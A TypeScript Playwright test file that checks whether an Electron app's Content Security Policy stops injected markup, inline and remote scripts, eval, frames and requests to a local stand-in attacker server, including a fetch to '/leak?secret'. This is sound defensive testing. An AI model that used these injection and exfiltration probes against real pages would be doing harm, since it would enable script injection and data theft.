import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { contentSecurityPolicy } from '../../electron/host/window-files.ts'
import { launchChromium } from '../harness/browser/chromium.ts'
import { installFakeDoor } from '../harness/browser/fake-door.ts'
import { appWith } from '../harness/browser/window-fixtures.ts'
import { hostWindow, type WindowHost } from '../harness/browser/window-host.ts'

/**
 * What an attacker could do who has got text, or even a line of script, into the window: tried in a real Chromium, in the
 * real window under the policy that both shells send, and on a bare page without it, where each attack must succeed.
 */
let browser: Browser
let host: WindowHost
let elsewhere: { url: string; requests: string[]; close(): void }

beforeAll(async () => {
  host = await hostWindow()
  elsewhere = await attackersServer()
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
  await host?.close()
  elsewhere?.close()
})

/** Answers everything and notes what it was asked for. */
async function attackersServer() {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    const type = request.url?.endsWith('.js') ? 'text/javascript' : 'text/html'
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' }).end('globalThis.pwned = 1')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, requests, close: () => server.close() }
}

/**
 * Each runs in the page and returns true when it has got through; what goes elsewhere is seen there. The debugger that
 * runs them may evaluate text at once, so those that do wait a moment first.
 */
const attacks: Readonly<Record<string, (elsewhere: string) => Promise<boolean>>> = {
  'markup from text': async () => {
    const box = document.createElement('div')
    box.innerHTML = '<b>x</b>'
    return box.childElementCount === 1
  },
  'an event handler from text': async () => {
    const image = document.createElement('img')
    image.setAttribute('onerror', 'globalThis.handled = 1')
    image.src = '/no-such-image.png'
    document.body.append(image)
    await new Promise((resolve) => setTimeout(resolve, 300))
    return 'handled' in globalThis
  },
  eval: async () => {
    await new Promise((resolve) => setTimeout(resolve))
    // biome-ignore lint/security/noGlobalEval: it is the attack
    // biome-ignore lint/complexity/noCommaOperator: an indirect call
    return (0, eval)('1 + 1') === 2
  },
  'a function from text': async () => {
    await new Promise((resolve) => setTimeout(resolve))
    return new Function('return 7')() === 7
  },
  'an inline script': async () => {
    const script = document.createElement('script')
    script.append('globalThis.inlined = 1')
    document.body.append(script)
    return 'inlined' in globalThis
  },
  'a script from elsewhere': async (elsewhere) => {
    const script = document.createElement('script')
    const loaded = new Promise<boolean>((resolve) => {
      script.onload = () => resolve('pwned' in globalThis)
      script.onerror = () => resolve(false)
    })
    script.src = `${elsewhere}/script.js`
    document.body.append(script)
    return loaded
  },
  'a request elsewhere': async (elsewhere) => (await fetch(`${elsewhere}/leak?secret`)).ok,
  'an image elsewhere': async (elsewhere) => {
    const image = new Image()
    image.src = `${elsewhere}/leak.png`
    await new Promise((resolve) => setTimeout(resolve, 300))
    return true
  },
  'a frame': async (elsewhere) => {
    const frame = document.createElement('iframe')
    frame.src = `${elsewhere}/frame.html`
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 300))
    return true
  },
  'a trusted-types policy of its own': async () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): object }
    }
    return trustedTypes.createPolicy('attacker', { createHTML: (text: string) => text }) !== undefined
  },
  'a style element': async () => {
    const style = document.createElement('style')
    style.append('body { --leaked: yes }')
    document.head.append(style)
    return getComputedStyle(document.body).getPropertyValue('--leaked').trim() === 'yes'
  },
  'another base for links': async (elsewhere) => {
    const base = document.createElement('base')
    base.href = elsewhere
    document.head.append(base)
    return document.baseURI.startsWith(elsewhere)
  },
}
const names = Object.keys(attacks)
const goElsewhere = ['a script from elsewhere', 'a request elsewhere', 'an image elsewhere', 'a frame']

/** True when the attack got through; one that is stopped by an exception did not. */
async function tries(page: Page, name: string): Promise<boolean> {
  const attack = attacks[name]
  if (!attack) throw new Error(`no attack ${name}`)
  const before = elsewhere.requests.length
  const inPage = await page.evaluate(attack, elsewhere.url).catch(() => false)
  return inPage && (!goElsewhere.includes(name) || elsewhere.requests.length > before)
}

describe('text and script that got into the window', () => {
  it('get nowhere', async () => {
    const page = await browser.newPage()
    await installFakeDoor(page, appWith())
    await page.goto(host.url)
    await page.locator('header').waitFor()
    const through: string[] = []
    for (const name of names) if (await tries(page, name)) through.push(name)
    expect(through).toEqual([])
    expect(elsewhere.requests).toEqual([])
    // And the window goes on.
    await page.getByTestId('account-state').click()
    await page.getByTestId('manage-accounts').click()
    await page.getByTestId('account-item').first().waitFor()
    await page.close()
  })

  it('would get through without the policy (canary)', async () => {
    const page = await browser.newPage()
    await page.goto(`${elsewhere.url}/bare.html`)
    const stopped: string[] = []
    for (const name of names) if (!(await tries(page, name))) stopped.push(name)
    expect(stopped).toEqual([])
    await page.close()
  })
})

describe('the policy', () => {
  const directives = new Map(
    contentSecurityPolicy('ws://127.0.0.1:1')
      .split('; ')
      .map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1)] as const),
  )

  it('has no source that one could write to, no wildcard, and nothing unsafe', () => {
    const sources = [...directives.values()].flat()
    expect(sources.filter((source) => /unsafe|^\*|https?:|^data:$|nonce|strict-dynamic/.test(source))).toEqual([])
    expect(sources.filter((source) => source.startsWith('ws'))).toEqual(['ws://127.0.0.1:1'])
  })

  it.each([
    ['default-src', "'none'"],
    ['object-src', "'none'"],
    ['base-uri', "'none'"],
    ['form-action', "'none'"],
    ['frame-ancestors', "'none'"],
    ['script-src', "'self'"],
    ['style-src', "'self'"],
    ['require-trusted-types-for', "'script'"],
    ['trusted-types', "'none'"],
  ])('says %s %s', (name, value) => {
    expect(directives.get(name)).toEqual([value])
  })
})
